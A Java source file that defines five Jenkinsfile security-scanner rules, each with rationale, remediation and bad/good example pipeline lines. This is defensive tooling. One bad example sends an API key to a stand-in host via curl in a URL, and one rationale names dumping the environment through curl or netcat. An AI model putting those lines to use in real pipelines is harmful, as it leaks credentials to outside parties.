package dev.imprint.scan.ci;

import dev.imprint.scan.Category;
import dev.imprint.scan.Rule;
import dev.imprint.scan.Severity;
import java.util.List;

/** The Jenkinsfile rules' metadata. */
final class JenkinsRules {
  private JenkinsRules() {}

  static final Rule GROOVY_INTERPOLATION = Rule.builder("IMP-JENKINS-001")
      .title("Credential interpolated by Groovy into a shell step")
      .severity(Severity.HIGH).category(Category.NHI2)
      .rationale("In a double-quoted sh \"...\" Groovy substitutes the secret before the shell "
          + "runs, so it lands in the process arguments (visible to every process on the "
          + "agent), in the generated script file, and in the log wherever masking misses it; "
          + "a secret holding shell metacharacters can also inject commands.")
      .remediation("Use single quotes so the shell expands the variable from its environment: "
          + "sh 'curl -u \"$USER:$PASS\" ...', or sh '''...''' for multi-line scripts.")
      .example("sh \"docker login -p ${PASS} registry.example.com\"",
          "sh 'echo \"$PASS\" | docker login --password-stdin registry.example.com'")
      .tags("jenkins", "CWE-214", "CWE-78").build();

  static final Rule ECHO_CREDENTIAL = Rule.builder("IMP-JENKINS-002")
      .title("Credential printed to the build log")
      .severity(Severity.HIGH).category(Category.NHI2)
      .rationale("Build logs are kept and readable by everyone with read access to the job; "
          + "Jenkins masks only the exact bound value, so encoded, split or transformed "
          + "secrets appear in clear text.")
      .remediation("Never echo credentials; hand them to tools on stdin or through the "
          + "environment variable the tool reads.")
      .example("echo \"token is ${TOKEN}\"", "echo 'deploying with the bound token'")
      .tags("jenkins", "CWE-532").build();

  static final Rule HARDCODED_SECRET = Rule.builder("IMP-JENKINS-003")
      .title("Secret written into the Jenkinsfile instead of bound from credentials")
      .severity(Severity.CRITICAL).category(Category.NHI2)
      .rationale("A secret assigned in environment { } is committed with the pipeline, "
          + "visible to everyone who can read the repository and never masked in logs; static "
          + "cloud keys written this way are long-lived and usable from anywhere.")
      .remediation("Revoke it, store a new one in the Jenkins credentials store and bind it "
          + "with NAME = credentials('id') or withCredentials; for cloud access prefer "
          + "short-lived federated credentials.")
      .example("environment {\n  AWS_SECRET_ACCESS_KEY = 'wJalr...'\n}",
          "environment {\n  AWS_CREDS = credentials('aws-deploy')\n}")
      .tags("jenkins", "secret", "CWE-798").build();

  static final Rule EXFILTRATION = Rule.builder("IMP-JENKINS-004")
      .title("Credential sent in a URL or request body, or environment dumped over the network")
      .severity(Severity.HIGH).category(Category.NHI2)
      .rationale("A credential in a URL or request body is logged by proxies and servers and "
          + "handed to whoever runs the endpoint; piping the environment into curl or netcat "
          + "sends every bound credential at once.")
      .remediation("Send credentials only as authentication to the service they belong to "
          + "(curl -u or an Authorization header read from the environment), never in URLs "
          + "or bodies, and never dump the environment.")
      .example("sh 'curl \"https://hooks.example.net/?k=$API_KEY\"'",
          "sh 'curl -H \"Authorization: Bearer $API_KEY\" https://api.example.com/deploy'")
      .tags("jenkins", "CWE-200").build();

  static final Rule AGENT_IMAGE = Rule.builder("IMP-JENKINS-005")
      .title("Agent or docker.image not pinned by digest")
      .severity(Severity.MEDIUM).category(Category.IMMUTABILITY)
      .rationale("The stages run with their bound credentials inside this image; a tag (and "
          + "above all latest) can be re-pointed to different code between builds.")
      .remediation("Reference agent images by digest: docker { image 'maven:3.9@sha256:...' }.")
      .example("agent { docker { image 'maven:latest' } }",
          "agent { docker { image 'maven:3.9.6@sha256:<digest>' } }")
      .tags("jenkins", "supply-chain").build();

  static final List<Rule> ALL = List.of(GROOVY_INTERPOLATION, ECHO_CREDENTIAL,
      HARDCODED_SECRET, EXFILTRATION, AGENT_IMAGE);
}
